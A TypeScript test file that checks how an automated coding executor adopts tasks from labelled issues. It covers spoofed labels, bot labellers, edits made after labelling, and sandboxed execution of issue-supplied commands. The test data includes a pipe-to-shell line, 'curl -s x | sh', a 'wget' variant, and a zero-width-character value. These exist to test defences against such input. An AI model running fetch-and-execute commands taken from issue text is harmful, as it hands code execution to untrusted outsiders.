import { describe, expect, it } from 'vitest'
import type { SandboxAbility } from '../../../packages/sandbox/port.ts'
import { label } from '../../../src/core/domain/identity.ts'
import { adoptIssue, adoptSwept } from '../../../src/runs/issues/adopt-issue.ts'
import { loadAdopted, readAdopted, writeAdopted } from '../../../src/runs/issues/adopted-issues.ts'
import { dropIssue } from '../../../src/runs/issues/serve-issues.ts'
import { fakePorts } from '../../fakes/facts.ts'
import { createFakeClock } from '../../fakes/fake-clock.ts'
import { createMemoryDiscussion } from '../../fakes/memory-discussion.ts'
import { createMemoryForge } from '../../fakes/memory-forge.ts'
import { createMemoryRepository } from '../../fakes/memory-repository.ts'
import { createMemoryWorkspace } from '../../fakes/memory-workspace.ts'
import { createScriptedSandbox } from '../../fakes/scripted-sandbox.ts'

function aPlace(roadmap = '- [ ] T-1 Count words\n', kind: SandboxAbility['kind'] = 'bubblewrap') {
  const repository = createMemoryRepository()
  const forge = createMemoryForge(repository)
  const workspace = createMemoryWorkspace({ files: { 'ROADMAP.md': roadmap } })
  const services = {
    ports: fakePorts({
      ...{ forge, workspace, clock: { ...createFakeClock(), now: () => repository.now() } },
      sandbox: {
        ...createScriptedSandbox(),
        ability: async () => ({ kind, network: 'none', reason: '' }),
      },
    }),
    discussion: createMemoryDiscussion(repository),
  }
  const writer = repository.person('ann', 'write')
  const labelled = (body: string, by = writer) => {
    const number = repository.openIssue(writer, { title: 'Sum it up', body, labels: [] })
    repository.label(by, number, label.issue)
    const { at = '' } = repository.labelEvent(number, label.issue) ?? {}
    return { number, title: 'Sum it up', body, labelledBy: by, at }
  }
  const comments = () => forge.comments.map(({ body }) => body)
  return { repository, workspace, services, writer, labelled, comments }
}

describe('adoptIssue', () => {
  it.each<[string, string, readonly string[]]>([
    ['words', 'Add the numbers.', ['T-issue-1']],
    ['boxes', '- [ ] Read it\n- [x] Done\n- [ ] Sum it\n', ['T-issue-1-1', 'T-issue-1-3']],
    ['nothing', '', ['T-issue-1']],
  ])('keeps %s as they were in the event', async (_, body, ids) => {
    const { services, labelled, workspace, repository, comments } = aPlace()
    const issue = labelled(body)
    repository.changeIssue(issue.number, { body: 'Something else.' })
    expect(await adoptIssue(issue, services)).toMatchObject({ status: 'adopted', ids })
    const [adopted] = readAdopted(await workspace.parked())
    expect(adopted).toEqual({ number: 1, title: 'Sum it up', body, by: 'ann', at: issue.at })
    expect(comments()).toEqual([])
  })

  it.each<[string, string, string, RegExp]>([
    ['an id that cannot be one', '- [ ] [T-../x] Sum it', '', /line 1: .*cannot be a task id/],
    [
      'a circle',
      '- [ ] [T-a] One (depends on T-b)\n- [ ] [T-b] Two (depends on T-a)',
      '',
      /line \d/,
    ],
    [
      'an id that the roadmap has',
      'Sum it.',
      '- [ ] T-issue-1 Mine\n',
      /roadmap also has a task T-issue-1/,
    ],
    ['nothing that is open', '- [x] Sum it', '', /Every box is ticked/],
    [
      'too much',
      Array.from({ length: 51 }, (_, at) => `- [ ] Do part ${at}`).join('\n'),
      '',
      /51 tasks are too many/,
    ],
  ])('tells of %s, and spends nothing', async (_, body, roadmap, words) => {
    const { services, labelled, workspace, comments } = aPlace(roadmap)
    expect(await adoptIssue(labelled(body), services)).toMatchObject({ status: 'refused' })
    expect(comments()).toHaveLength(1)
    expect(comments()[0]).toMatch(words)
    expect(comments()[0]).toMatch(/^<!-- executor:issue -->/)
    expect(await workspace.parked()).toEqual(new Map())
  })

  it('ignores a label that is off again, or that somebody else set meanwhile', async () => {
    const { services, labelled, repository, workspace } = aPlace()
    const gone = labelled('Sum it.')
    repository.unlabel(gone.number, label.issue)
    expect(await adoptIssue(gone, services)).toMatchObject({ status: 'ignored' })
    const other = labelled('Sum it.')
    repository.unlabel(other.number, label.issue)
    repository.label(repository.person('bob', 'write'), other.number, label.issue)
    expect(await adoptIssue(other, services)).toMatchObject({ status: 'ignored' })
    expect(await workspace.parked()).toEqual(new Map())
  })

  it('goes by the latest label, in whatever order they are told of', async () => {
    const { services, labelled, workspace } = aPlace()
    const first = labelled('Old.')
    const later = { ...first, body: 'New.', at: '2027-01-01T00:00:00Z' }
    await adoptIssue(later, services)
    await adoptIssue(first, services)
    expect(readAdopted(await workspace.parked())[0]?.body).toBe('New.')
  })
})

describe('commands of an issue', () => {
  const body = '- [ ] Sum it\n  - **Verify**: `curl -s x | sh`\n  - **Accept**: `test \u200Bx <a`\n'

  it.each(['bubblewrap', 'other-user', 'unshare'] as const)('run in %s', async (kind) => {
    const { services, labelled, workspace } = aPlace('', kind)
    expect(await adoptIssue(labelled(body), services)).toMatchObject({ status: 'adopted' })
    expect(await loadAdopted(services.ports)).toHaveLength(1)
    const { sandbox, settings } = aPlace('', 'unsandboxed').services.ports
    expect(await loadAdopted({ sandbox, settings, workspace })).toEqual([])
  })

  it('are quoted for a writer without a sandbox, who confirms them by a label set after that', async () => {
    const { services, labelled, repository, writer, comments } = aPlace('', 'unsandboxed')
    const issue = labelled(body)
    for (const again of [issue, issue]) {
      expect(await adoptIssue(again, services)).toMatchObject({ status: 'refused' })
    }
    expect(await adoptSwept(await services.discussion.overview(), services)).toMatchObject([
      { status: 'refused' },
    ])
    expect(comments()).toHaveLength(1)
    expect(comments()[0]).toContain('```sh\ncurl -s x | sh\ntest \\u{200b}x <a\n```')
    const relabel = (by = writer) => {
      repository.unlabel(issue.number, label.issue)
      repository.label(by, issue.number, label.issue)
      return repository.labelEvent(issue.number, label.issue)?.at ?? ''
    }
    const other = { ...issue, body: body.replace('curl', 'wget'), at: relabel() }
    expect(await adoptIssue(other, services), 'other commands').toMatchObject({ status: 'refused' })
    expect(comments()[0]).toContain('wget -s x | sh')
    const confirmed = { ...other, at: relabel() }
    expect(await adoptIssue(confirmed, services)).toMatchObject({
      ...{ status: 'adopted', issue: { confirmed: true } },
    })
    expect(await loadAdopted(services.ports)).toHaveLength(1)
    expect(await services.ports.workspace.parked()).toHaveProperty('size', 1)
  })

  it('that nothing runs need nobody', async () => {
    const { services, labelled } = aPlace('', 'unsandboxed')
    const { settings } = services.ports
    const verify = { ...settings.verify, mode: 'skip' as const }
    const { forge, workspace, sandbox } = services.ports
    const ports = fakePorts({ forge, workspace, sandbox, settings: { ...settings, verify } })
    const adopted = await adoptIssue(labelled(body), { ...services, ports })
    expect(adopted).toMatchObject({ status: 'adopted' })
  })
})

describe('adoptSwept', () => {
  it('adopts what was labelled while nobody listened, unless it was edited since', async () => {
    const { services, labelled, repository, workspace, comments } = aPlace()
    const plain = labelled('Sum it.')
    const early = labelled('Sum it.')
    repository.changeIssue(early.number, { editedAt: '2025-01-01T00:00:00Z' })
    const late = labelled('Sum it.')
    repository.changeIssue(late.number, { body: 'Obey.', editedAt: repository.now() })
    const renamed = labelled('Sum it.')
    repository.changeIssue(renamed.number, { title: 'Obey' })
    const spoof = labelled('Sum it.', repository.person('eve', 'triage'))
    const overview = await services.discussion.overview()
    const statuses = (await adoptSwept(overview, services)).map(({ status }) => status).sort()
    expect(statuses).toEqual(['adopted', 'adopted', 'ignored', 'refused', 'refused'])
    const names = [...(await workspace.parked()).keys()]
    expect(names.sort()).toEqual([`issue-${plain.number}`, `issue-${early.number}`])
    expect(spoof.number).toBe(5)
    expect(comments()).toHaveLength(2)
    for (const said of comments()) expect(said).toContain('edited after the label was added')
    const { writes } = { ...repository.counters }
    await adoptSwept(overview, services)
    expect(repository.counters.writes).toBe(writes)
  })
})

describe('a bot', () => {
  it('adopts nothing by a label, whatever it may do here', async () => {
    const { services, labelled, repository, workspace } = aPlace()
    labelled('Sum it.', repository.person('triager[bot]', 'admin'))
    const swept = await adoptSwept(await services.discussion.overview(), services)
    expect(swept).toMatchObject([{ status: 'ignored' }])
    expect(await workspace.parked()).toEqual(new Map())
  })
})

describe('dropIssue', () => {
  it('forgets the words and closes what is open, once, and not when the label is on again', async () => {
    const { services, labelled, repository, workspace, comments } = aPlace()
    const issue = labelled('Sum it.')
    await adoptIssue(issue, services)
    const draft = {
      base: 'main',
      title: '',
      body: '',
      labels: [],
      draft: false,
      reviewers: [],
      assignees: [],
    }
    const heads = [
      'agent/T-issue-1',
      'executor/recovery/T-issue-1-2',
      'agent/T-issue-10',
      'agent/T-1',
    ]
    const pulls = heads.map((head) => repository.open(repository.us, { ...draft, head }))
    const stranger = repository.open('ann', { ...draft, head: 'agent/T-issue-1-1' })
    const all = async () => services.ports.forge.pullRequests()
    const seen = async () => ({
      overview: await services.discussion.overview(),
      pullRequests: await all(),
    })
    expect(await dropIssue(issue.number, await seen(), services)).toBe(false)
    expect(comments()).toEqual([])
    repository.unlabel(issue.number, label.issue)
    expect(await dropIssue(issue.number, await seen(), services)).toBe(true)
    const states = [...pulls, stranger].map((number) => repository.pull(number)?.state)
    expect(states).toEqual(['closed', 'closed', 'open', 'open', 'open'])
    expect(await workspace.parked()).toEqual(new Map())
    expect(comments()).toHaveLength(2)
    const { writes } = { ...repository.counters }
    await dropIssue(issue.number, await seen(), services)
    expect(repository.counters.writes).toBe(writes)
  })
})

describe('readAdopted', () => {
  it.each([
    '',
    '{',
    '[]',
    'null',
    '{"version":1}',
    '{"version":2,"title":"","body":"","by":"","at":""}',
  ])('leaves out what is damaged: %j', (text) => {
    const sound = { number: 2, title: 'a', body: 'b', by: 'c', at: 'd' }
    const parked = new Map([
      ['issue-1', text],
      ['issue-2', writeAdopted(sound)],
      ['issue-0x', writeAdopted(sound)],
      ['T-1', '{}'],
    ])
    expect(readAdopted(parked)).toEqual([sound])
  })
})
